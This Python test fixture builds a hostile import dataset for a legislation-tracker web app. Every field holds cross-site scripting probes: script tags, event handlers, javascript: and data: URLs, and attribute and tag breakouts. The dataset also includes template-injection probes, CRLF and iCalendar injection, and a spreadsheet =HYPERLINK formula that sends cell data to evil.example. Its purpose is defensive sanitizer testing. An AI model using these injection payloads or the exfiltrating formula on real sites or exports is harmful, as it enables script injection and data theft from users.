"""Hostile text for every field a person can type, as an interchange document.

Each value starts with a marker naming its field (``XSS-measure-title``), so that a suite can
tell which field reached which page, and carries script, event-handler, ``javascript:`` URL,
SVG, tag-breaking and spreadsheet-formula payloads. The document imports like any dataset, so
the same records serve the in-process suites and the browser test against a real server.
"""

from __future__ import annotations

from typing import Any

from tests.security.content import PROBE_TAG

SLUG = "kg-xss-probe-law"
OTHER_SLUG = "kg-xss-probe-bill"
STATEMENT_SLUG = "xss-probe-statement"
ORG_SLUG = "xss-probe-org"
PERSON_SLUG = "xss-probe-person"
TOPIC_SLUG = "xss-probe-topic"
SEARCH_WORD = "Xssprobe"  # a word in every title, for search pages


def payload(field: str, limit: int | None = None) -> str:
    """Hostile text for one field, at most ``limit`` characters."""
    marker = f"XSS-{field}"
    text = (
        f'=HYPERLINK("https://evil.example/?"&A1) {marker} {SEARCH_WORD} '
        f"<{PROBE_TAG}>{marker}</{PROBE_TAG}>"
        "<script>window.__xss=1</script>"
        "<img src=x onerror=window.__xss=1>"
        "<svg onload=window.__xss=1><a href=javascript:window.__xss=1>svg</a></svg>"
        "\"'><iframe src=javascript:window.__xss=1></iframe>"
        "</textarea></title><script>window.__xss=1</script>"
        "{{7*7}}${7*7}"
    )
    if limit is not None and len(text) > limit:
        text = f"@cmd {marker} <{PROBE_TAG}>"[:limit]
    return text


def short(field: str) -> str:
    """For narrow fields (an acronym): still markup and a formula."""
    return f"-{field[:20]}<{PROBE_TAG}>"


def markdown(field: str) -> str:
    """For Markdown fields: links, images and raw HTML that the sanitizer must defuse."""
    marker = f"XSS-{field}"
    return (
        f"+{marker} {SEARCH_WORD} [click](javascript:window.__xss=1) "
        f"[data](data:text/html,<script>window.__xss=1</script>) "
        f"<{PROBE_TAG}>{marker}</{PROBE_TAG}> <script>window.__xss=1</script> "
        "<img src=x onerror=window.__xss=1> ![pixel](https://evil.example/pixel.png) "
        '[t](https://example.org/ "x\\" onmouseover=\\"window.__xss=1") '
        "<https://evil.example/autolink>\n\n"
        "<svg><script>window.__xss=1</script></svg>\n\n"
        "\nX-INJECTED:1\r\nBEGIN:VEVENT\r\n"
    )


def url(field: str) -> str:
    """A valid web address that tries to break out of an attribute."""
    return f'https://example.org/{field}?"onmouseover="window.__xss=1"><{PROBE_TAG}>'


def source(field: str) -> dict[str, Any]:
    return {
        "url": url(f"source-{field}"),
        "title": payload(f"source-title-{field}"),
        "publisher": payload(f"source-publisher-{field}", 500),
        "published": "2024-03",
        "archived_url": url(f"archive-{field}"),
    }


def document() -> dict[str, Any]:
    """The hostile dataset: a measure, a second one related to it, a statement with quotes, an
    organization, a person, a topic, sources; every text field holds a payload."""
    return {
        "format": "tracker-dataset",
        "version": 1,
        "topics": [{"slug": TOPIC_SLUG, "name": payload("topic-name", 500)}],
        "organizations": [
            {
                "slug": ORG_SLUG,
                "name": payload("organization-name", 500),
                "acronym": short("acronym"),
                "kind": "ngo",
                "country": "KG",
                "url": url("organization"),
            }
        ],
        "people": [
            {
                "slug": PERSON_SLUG,
                "name": payload("person-name", 300),
                "role": payload("person-role", 500),
                "organization": ORG_SLUG,
            }
        ],
        "measures": [
            {
                "slug": SLUG,
                "country": "KG",
                "kind": "law",
                "title": payload("measure-title"),
                "short_title": payload("measure-short-title", 300),
                "original_title": payload("measure-original-title"),
                "original_language": "ky",
                "popular_names": [payload("popular-name-1", 300), payload("popular-name-2", 300)],
                "identifier": payload("measure-identifier", 300),
                "originating_body": payload("measure-originating-body", 500),
                "summary": markdown("measure-summary"),
                "topics": [TOPIC_SLUG],
                "visibility": "public",
                "sources": [source("measure")],
                "events": [
                    {
                        "type": "introduced",
                        "date": "2024-03",
                        "actor": payload("event-actor", 500),
                        "description": markdown("event-description"),
                        "sources": [source("event")],
                    },
                    {
                        "type": "extended",
                        "date": "2024-04-02",
                        "end_date": "2027-03-31",
                        "actor": payload("event-actor-2", 500),
                        "description": payload("event-description-2"),
                        "sources": [source("event")],
                    },
                ],
                "relations": [
                    {
                        "type": "modelled-on",
                        "target": "ru-foreign-agents-law-2012",
                        "note": payload("relation-note"),
                    }
                ],
            },
            {
                "slug": OTHER_SLUG,
                "country": "KG",
                "kind": "bill",
                "title": payload("measure-2-title"),
                "visibility": "public",
                "events": [
                    {
                        "type": "drafted",
                        "date": "2026-12",
                        "description": payload("upcoming-event-description"),
                        "sources": [source("measure-2")],
                    }
                ],
                "relations": [{"type": "amends", "target": SLUG, "note": payload("note-2")}],
            },
        ],
        "statements": [
            {
                "slug": STATEMENT_SLUG,
                "organization": ORG_SLUG,
                "signatories": [ORG_SLUG],
                "speaker": PERSON_SLUG,
                "type": "press-release",
                "stance": "oppose",
                "asks": ["withdraw"],
                "date": "2024-03-15",
                "title": payload("statement-title"),
                "url": url("statement"),
                "summary": markdown("statement-summary"),
                "quotes": [
                    {"text": payload("quote-text"), "speaker": PERSON_SLUG},
                    {"text": markdown("quote-markdown"), "speaker": None},
                ],
                "measures": [SLUG],
                "reacts_to": {"measure": SLUG, "type": "introduced", "date": "2024-03"},
                "visibility": "public",
                "sources": [source("statement")],
            }
        ],
    }


def markers() -> set[str]:
    """The marker of every field the document plants a payload in."""
    found: set[str] = set()

    def walk(value: Any) -> None:
        if isinstance(value, str):
            found.update(word for word in value.split() if word.startswith(("XSS-", "+XSS-")))
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(document())
    return {marker.lstrip("+") for marker in found}
